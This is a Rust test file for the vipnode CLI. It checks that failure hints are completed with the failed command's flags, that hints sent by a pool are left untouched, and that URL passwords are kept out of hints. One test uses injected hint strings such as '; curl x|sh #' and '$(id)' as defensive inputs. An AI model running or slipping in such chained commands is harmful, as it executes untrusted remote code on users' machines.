//! Commands in hints name what the command that failed was given.

use std::ffi::OsString;

use super::{nothing, read};

/// The hint, as a process with this command line shows it.
fn hint_of(line: &[&str], hint: &str) -> String {
    let (_, settings) = read(&[&["vipnode"], line].concat(), nothing).unwrap();
    settings.carried().complete(hint)
}

#[test]
fn a_command_in_a_hint_works_as_it_is_pasted() {
    const RELEASE: &str = "Undo them: `vipnode release`.";
    assert_eq!(hint_of(&["host"], RELEASE), RELEASE);
    let line = ["client", "--rpc", "/my node/geth.ipc", "--state-dir", "/srv/v", "--insecure"];
    let whole = "Undo them: `vipnode release --rpc '/my node/geth.ipc' --state-dir /srv/v --insecure`.";
    assert_eq!(hint_of(&line, RELEASE), whole);
    assert_eq!(
        hint_of(&["--rpc", "http://127.0.0.1:1"], RELEASE),
        "Undo them: `vipnode release --rpc http://127.0.0.1:1`."
    );
    let agent = ["client", "wss://pool.example", "--tls-ca", "ca.pem", "--nodekey", "key", "--join-secret", "sesame"];
    assert_eq!(
        hint_of(&agent, "Run `vipnode account show`, or `vipnode account link --keystore FILE`; see `vipnode demo`."),
        "Run `vipnode account show wss://pool.example --tls-ca ca.pem`, or `vipnode account link --keystore FILE \
         wss://pool.example --tls-ca ca.pem`; see `vipnode demo`."
    );
    assert_eq!(
        hint_of(&["client", "--pool", "mypool"], "Run `vipnode account payout ADDRESS`."),
        "Run `vipnode account payout ADDRESS --pool mypool`."
    );
    let host = format!("enode://{}@10.0.0.1:30303", "0a".repeat(64));
    assert_eq!(hint_of(&["client", &host], "Run `vipnode account show`."), "Run `vipnode account show`.");
}

/// A hint may come from a pool. Completed, such a command would look like one of vipnode's own.
#[test]
fn a_command_with_values_is_not_completed() {
    let line = ["account", "show", "ws://127.0.0.1:1", "--keystore", "k"];
    for command in
        ["vipnode account payout 0x12", "vipnode account link --chain 1; curl x|sh #", "vipnode account unlink $(id)"]
    {
        let hint = format!("Run `{command}`.");
        assert_eq!(hint_of(&line, &hint), hint);
    }
}

#[test]
fn an_account_is_signed_for_again_with_the_same_key() {
    let again = "Sign a new link: run `vipnode account link` again.";
    let line = ["account", "link", "ws://127.0.0.1:1", "--keystore", "k", "--password-file", "p", "--rpc", "r"];
    assert_eq!(
        hint_of(&line, again),
        "Sign a new link: run `vipnode account link ws://127.0.0.1:1 --keystore k --password-file p --rpc r` again."
    );
    let account = "0x52908400098527886E0F7030069857D2E4169EE7";
    let line =
        ["account", "unlink", "--account", account, "--counter", "1", "--signature", &format!("0x{}", "1b".repeat(65))];
    assert_eq!(
        hint_of(&line, again),
        format!("Sign a new link: run `vipnode account link --account {account}` again.")
    );
    assert_eq!(
        hint_of(&line, "Run `vipnode account show --keystore FILE`."),
        "Run `vipnode account show --keystore FILE`."
    );
}

#[test]
fn a_command_about_a_pool_names_the_same_pool() {
    let hint = "List them: `vipnode pool admin payouts --period N`; run `vipnode pool verify`.";
    let line = ["pool", "admin", "close-period", "--datadir", "/srv/my pool"];
    assert_eq!(
        hint_of(&line, hint),
        "List them: `vipnode pool admin payouts --period N --datadir '/srv/my pool'`; run `vipnode pool verify \
         --datadir '/srv/my pool'`."
    );
    let line = ["pool", "admin", "payouts", "--socket", "/run/pool.sock"];
    assert_eq!(
        hint_of(&line, hint),
        "List them: `vipnode pool admin payouts --period N --socket /run/pool.sock`; run `vipnode pool verify`."
    );
    let price = "Run `vipnode pool admin price \"1 USDC/hour\" --fee-bps 250 --reason TEXT`";
    let pool = crate::output::CarriedFlags::new(vec![("datadir", "--datadir '/srv/my pool'".to_owned())], None);
    assert_eq!(pool.complete(price), price, "a pool may have sent it");
    let own = pool.complete_where(price, |_own| true);
    assert!(own.ends_with("--reason TEXT --datadir '/srv/my pool'`"), "{own}");
    let backup = "Pass a file that `vipnode pool backup` wrote.";
    assert_eq!(hint_of(&["pool", "restore", "x", "--datadir", "/srv"], backup), backup);
}

#[test]
fn no_password_of_a_url_is_copied_into_a_hint() {
    let shown = hint_of(&["host", "--rpc", "http://user:secret@127.0.0.1:8545"], "Run `vipnode release`.");
    assert!(shown.contains("--rpc ") && !shown.contains("secret"), "{shown}");
}

#[test]
fn one_variable_names_the_pool_of_agents_and_of_accounts() {
    let env: fn(&str) -> Option<OsString> = |name| (name == "VIPNODE_POOL").then(|| "wss://pool.example".into());
    let (_, settings) = read(&["vipnode", "account", "link", "--keystore", "k"], env).unwrap();
    let hint = settings.carried().complete("Run `vipnode account show`.");
    assert_eq!(hint, "Run `vipnode account show wss://pool.example --keystore k`.");
}
